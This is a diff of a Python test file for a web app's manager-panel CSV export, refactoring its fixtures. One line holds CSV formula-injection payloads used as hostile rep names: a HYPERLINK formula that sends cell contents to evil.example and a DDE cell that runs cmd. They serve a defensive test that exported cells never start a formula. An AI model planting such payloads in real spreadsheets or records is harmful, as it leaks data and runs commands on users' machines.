@@ -16,8 +16,8 @@ from embed.manager import csrf_token, mint_manager_token
 from scoring.quota_models import Quota
 from sync.models import User
 from tests.conftest import make_config
-from tests.test_embed_canvas import INSTANCE, ORG_ID, SECRET
-from tests.test_manager_seed import ADMIN, AS_OF, R1, R2, R3, R4, prepare_store, seed_team
+from tests.test_manager_scope import app  # noqa: F401 (fixture)
+from tests.test_manager_seed import ADMIN, AS_OF, R1, R2, R3, R4
 from web.extensions import runtime
 
 HOSTILE = {R1: '=HYPERLINK("https://evil.example/?"&A1,"Open")', R2: "@SUM(1+1)*cmd|' /C calc'!A0",
@@ -25,19 +25,13 @@ HOSTILE = {R1: '=HYPERLINK("https://evil.example/?"&A1,"Open")', R2: "@SUM(1+1)*
 
 
 @pytest.fixture
-def app(tmp_path, sqlite_url, redis_url):
-    config = make_config(tmp_path, sqlite_url, redis_url, SALESFORCE_CLIENT_SECRET=SECRET)
-    engine, _sessions = prepare_store(sqlite_url)
-    engine.dispose()
-    flask_app = web.create_app(config)
-    with flask_app.app_context(), runtime().sessions() as session:
-        flask_app.config["SEED"] = seed_team(session, instance_url=INSTANCE, remote_org_id=ORG_ID)
+def named(app):
+    """The team panel's seeded store (tests.test_manager_scope), its reps renamed by an attacker in the CRM."""
+    with app.app_context(), runtime().sessions() as session:
         for remote_id, name in HOSTILE.items():
             session.execute(update(User).where(User.remote_id == remote_id).values(name=name))
         session.commit()
-    yield flask_app
-    with flask_app.app_context():
-        runtime().engine.dispose()
+    return app
 
 
 def _admin_token(app) -> str:
@@ -45,8 +39,8 @@ def _admin_token(app) -> str:
     return mint_manager_token(app.secret_key, seed.organization_id, seed.connection_id, ADMIN, "admin")
 
 
-def test_exported_cells_never_start_a_formula(app):
-    exported = app.test_client().get(f"/embed/manager/winloss?pt={_admin_token(app)}&period=2024-Q2"
+def test_exported_cells_never_start_a_formula(named):
+    exported = named.test_client().get(f"/embed/manager/winloss?pt={_admin_token(named)}&period=2024-Q2"
                                      f"&as_of={AS_OF}&format=csv&table=winloss-rep")
     rows = list(csv.reader(io.StringIO(exported.get_data(as_text=True))))
     names = {row[0] for row in rows[1:]}
@@ -56,7 +50,7 @@ def test_exported_cells_never_start_a_formula(app):
                cell.lstrip("-").replace(".", "", 1).isdigit())
 
 
-def test_a_quota_for_someone_outside_the_organization_is_refused(app):
+def test_a_quota_for_someone_outside_the_organization_is_refused(app):  # noqa: F811
     client = app.test_client()
     token = _admin_token(app)
     form = {"pt": token, "csrf_token": None, "period": "2024-Q2", "amount": "1000"}
